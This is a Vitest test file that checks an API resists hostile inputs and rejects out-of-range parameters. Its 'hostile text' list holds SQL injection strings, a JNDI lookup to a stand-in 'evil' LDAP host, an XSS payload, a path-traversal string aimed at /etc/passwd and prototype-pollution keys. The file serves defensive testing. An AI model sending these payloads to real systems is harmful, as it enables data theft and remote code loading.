import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { send, type RawAnswer } from "./raw-request.ts";
import { pageHeaders, register, startTestServer, type TestServer } from "./test-server.ts";
import { weatherSnapshot } from "./weather-definitions.ts";

let test: TestServer;

beforeAll(async () => {
  test = await startTestServer();
  await register(test.db, weatherSnapshot());
});

afterAll(() => test[Symbol.asyncDispose]());

const plan = { keys: ["report"] };
const launch = { ...plan, planHash: "0".repeat(64), at: Date.now(), idempotencyKey: "00000000" };

function call(path: string, input: unknown): Promise<RawAnswer> {
  const headers = { ...pageHeaders(test.server.address), "content-type": "application/json" };
  return send(test.server.address, { method: "POST", path: `/api/trpc/${path}`, headers, body: JSON.stringify(input) });
}

describe("hostile text", () => {
  const TEXTS = [
    "'; drop table run; --",
    '" or 1=1 --',
    "x') union select url from secret --",
    "%' or '1'='1",
    "\\",
    "${jndi:ldap://evil}",
    "<img src=x onerror=alert(1)>",
    "a\u0000b",
    "\ud800",
    "__proto__",
    "constructor",
    "../../etc/passwd",
    "x".repeat(1_000),
  ];

  it.each(TEXTS)("has no effect: %j", async (text) => {
    const { client, db } = test;
    const count = async () =>
      db.read(
        "count",
        async ({ sql }) =>
          (
            await sql<{ runs: number; assets: number }[]>`
        select (select count(*) from run)::integer as runs, (select count(*) from asset)::integer as assets`
          )[0],
      );
    const before = await count();
    const answers = await Promise.allSettled([
      client.assets.get.query({ key: text }),
      client.checks.forAsset.query({ key: text }),
      client.partitions.status.query({ key: text }),
      client.runs.list.query({ text }),
      client.runs.list.query({ asset: text }),
      client.runs.list.query({ cursor: text.slice(0, 200) }),
      client.runs.steps.query({ runId: 1, cursor: text.slice(0, 200) }),
      client.runs.logs.query({ runId: 1, text }),
      client.selection.evaluate.query({ selection: text }),
      client.plan.preview.query({ keys: ["weather/raw"], partitions: { kind: "text", text } }),
      client.plan.preview.query({ selection: text }),
    ]);
    const failures = answers.flatMap((answer) =>
      answer.status === "rejected" ? [answer.reason as { data?: { httpStatus?: number } }] : [],
    );
    for (const failure of failures) expect(failure.data?.httpStatus).toBeGreaterThanOrEqual(400);
    for (const failure of failures) expect(failure.data?.httpStatus).toBeLessThan(500);
    expect(await count()).toEqual(before);
    expect(test.errors).toEqual([]);
  });

  it("keeps names like __proto__ as plain data", async () => {
    const { client } = test;
    const { hash, at } = await client.plan.preview.query({ keys: ["report"] });
    const tags = JSON.parse('{"constructor":"a","toString":"b"}') as Record<string, string>;
    const launched = await client.plan.launch.mutate({
      keys: ["report"],
      planHash: hash,
      at,
      idempotencyKey: "tags-of-a-run",
      tags,
    });
    if (launched.kind !== "launched") throw new Error("not launched");
    expect((await client.runs.get.query({ runId: launched.runId })).tags).toEqual(tags);
  });
});

describe("limits of inputs", () => {
  it.each([
    ["runs.list", { limit: 501 }],
    ["runs.list", { limit: 0 }],
    ["runs.list", { limit: 1.5 }],
    ["runs.logs", { runId: 1, limit: 1_000 }],
    ["assets.status", { ids: Array.from({ length: 10_001 }, () => 1) }],
    ["runs.get", { runId: 2 ** 53 }],
    ["runs.get", { runId: "1" }],
    ["partitions.detail", { key: "report", ordinal: 1e300 }],
    ["plan.preview", { keys: [] }],
    ["plan.preview", {}],
    ["plan.preview", { keys: ["report"], selection: "*" }],
    ["plan.preview", { keys: ["report"], partitions: { kind: "ranges", asset: "report", ranges: [3, 1] } }],
    ["plan.preview", { keys: ["report"], partitions: { kind: "ranges", asset: "report", ranges: [1] } }],
    ["plan.preview", { keys: ["report"], partitions: { kind: "ranges", asset: "report", ranges: [1, 1] } }],
    ["plan.launch", { ...launch, at: 1 }],
    ["plan.launch", { ...launch, at: Date.now() + 3_600_000 }],
  ])("%s refuses %j", async (path, input) => {
    const answer = await call(path, input);
    expect(answer.status).toBe(400);
    expect(answer.body).toContain("API_INPUT_INVALID");
  });
});
